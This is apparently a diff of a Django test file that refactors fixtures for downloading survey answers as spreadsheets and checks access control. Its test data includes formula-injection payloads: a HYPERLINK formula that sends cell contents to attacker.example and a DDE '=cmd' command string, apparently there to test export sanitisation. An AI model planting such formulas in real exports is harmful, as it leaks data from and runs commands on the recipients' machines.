@@ -13,7 +13,7 @@ from django.contrib.auth.models import User
 from django.test import Client
 from django.urls import reverse
 from openpyxl import load_workbook
-from pytest_django import Settings
+from tests.web.meter.conftest import invite, signed_in
 
 from egov.frameworks import load_meter
 from egov.web.accounts.roles import Role
@@ -26,34 +26,23 @@ pytestmark = pytest.mark.django_db
 EVIL_COMMENT = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
 
 
-@pytest.fixture(autouse=True)
-def fast_passwords(settings: Settings) -> None:
-    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
-
-
 @pytest.fixture
 def answered(countries: None, accounts: dict[Role, User]) -> Assessment:
     """Kazakhstan, four respondents, three of whom answered; one answer revised."""
     actor = accounts[Role.CONTRIBUTOR]
     assessment = services.assessment_create(actor=actor, iso3="KAZ", title="Kazakhstan 2026")
 
-    def invite(name: str, group: str, sub_group: str, organisation: str) -> Respondent:
-        return services.respondent_invite(
-            actor=actor,
-            assessment=assessment,
-            name=name,
-            group=group,
-            sub_group=sub_group,
-            organisation=organisation,
-            email=f"{name.lower()}@example.org",
-        ).respondent
+    def respondent(name: str, group: str, sub_group: str, organisation: str) -> Respondent:
+        email = f"{name.lower()}@example.org"
+        details = {"sub_group": sub_group, "organisation": organisation, "email": email}
+        return invite(assessment, actor, name, group, **details)[0]
 
     # Invited out of the files' order: the files list government, business, civil society,
     # academia.
-    erlan = invite("Erlan", "academia", "universities", "Nazarbayev University")
-    dana = invite("Dana", "civil_society", "ngos", "+Digital Rights NGO")
-    bolat = invite("Bolat", "business", "smes", "=cmd|' /C calc'!A0")
-    aigerim = invite("Aigerim", "government", "ministries_agencies", 'Ministry, "Digital"')
+    erlan = respondent("Erlan", "academia", "universities", "Nazarbayev University")
+    dana = respondent("Dana", "civil_society", "ngos", "+Digital Rights NGO")
+    bolat = respondent("Bolat", "business", "smes", "=cmd|' /C calc'!A0")
+    aigerim = respondent("Aigerim", "government", "ministries_agencies", 'Ministry, "Digital"')
     services.assessment_transition(actor=actor, assessment=assessment, to="open")
     services.answers_save(
         respondent=aigerim,
@@ -247,8 +236,7 @@ def test_only_the_managers_download_the_answers(
             f'attachment; filename="meter-KAZ-{answered.pk}-answers.{extension}"'
         )
         assert response["Cache-Control"] == "private, no-store"
-    other = Client()
-    other.force_login(User.objects.get(username="contributor2"))
+    other = signed_in("contributor2")
     assert other.get(url).status_code == 404
     anonymous = client_as(Role.READER).get(url)
     assert anonymous.status_code == 302
